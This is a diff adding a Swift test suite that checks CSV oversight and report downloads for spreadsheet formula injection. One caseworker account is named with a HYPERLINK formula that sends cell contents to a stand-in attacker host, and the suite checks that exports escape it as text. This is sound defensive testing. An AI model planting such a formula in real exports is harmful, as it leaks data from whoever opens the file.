@@ -116,3 +116,61 @@ struct FigureDrillDownTests {
         }
     }
 }
+
+@Suite("CSV downloads a spreadsheet opens safely")
+struct CSVDownloadTests {
+    /// Every cell of `csv` as RFC 4180 reads it.
+    static func cells(_ csv: String) -> [String] {
+        var cells: [String] = [], cell = "", quoted = false, i = csv.startIndex
+        while i < csv.endIndex {
+            let c = csv[i]
+            if quoted {
+                if c == "\"" {
+                    let next = csv.index(after: i)
+                    if next < csv.endIndex, csv[next] == "\"" { cell.append("\""); i = next } else { quoted = false }
+                } else { cell.append(c) }
+            } else if c == "\"" { quoted = true }
+            else if c == "," || c == "\r\n" || c == "\n" { cells.append(cell); cell = "" }
+            else { cell.append(c) }
+            i = csv.index(after: i)
+        }
+        return cells
+    }
+
+    static func formulaCells(_ csv: String) -> [String] {
+        cells(csv).filter { cell in
+            guard let f = cell.first, "=+-@\t\r".contains(f) else { return false }
+            return cell.range(of: #"^[+-]?[0-9]+(\.[0-9]+)?%?$"#, options: .regularExpression) == nil
+        }
+    }
+
+    @Test func a_caseworker_named_like_a_formula_is_text_in_every_oversight_download() async throws {
+        try await TestApp.run { t in
+            try await t.installRulebook()
+            let a = try await t.user("A", [.member], number: "A1")
+            _ = try await t.user("B", [.member], number: "A2")
+            let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")"
+            let caseworker = try await t.account(formula, [.caseworker])
+            let governance = try await t.account("Gov", [.governance])
+            let r = try await t.call(.POST, "/api/v1/cases", as: a, json: [
+                "respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S"])
+            let id = try #require(r["id"] as? String)
+            #expect(try await t.call(.POST, "/api/v1/cases/\(id)/allocate-caseworker", as: governance).status == .ok)
+            #expect(try await t.call(.POST, "/api/v1/cases/\(id)/dismiss", as: caseworker, json: ["reasons": "Outside the rules."]).status == .ok)
+            let web = WebClient(t)
+            try await web.signIn(governance.person.email!, "long enough password")
+            var sawName = false
+            for table in ["backlog", "backlog-kind", "idle", "timeliness-category", "timeliness-caseworker", "timeliness-panel",
+                          "outcomes-category", "outcomes-caseworker", "outcomes-panel", "sanctions", "complainants", "suspensions"] {
+                let csv = try await web.get("/oversight/\(table).csv")
+                #expect(csv.status == .ok, "\(table)")
+                #expect(Self.formulaCells(csv.body).isEmpty, "\(table): \(Self.formulaCells(csv.body))")
+                sawName = sawName || Self.cells(csv.body).contains("'" + formula)
+            }
+            #expect(sawName, "the caseworker's name appears, as text, in a per-caseworker table")
+            let report = try await WebClient(t).get("/reports/2026-Q1.csv")
+            #expect(report.status == .ok)
+            #expect(Self.formulaCells(report.body).isEmpty)
+        }
+    }
+}
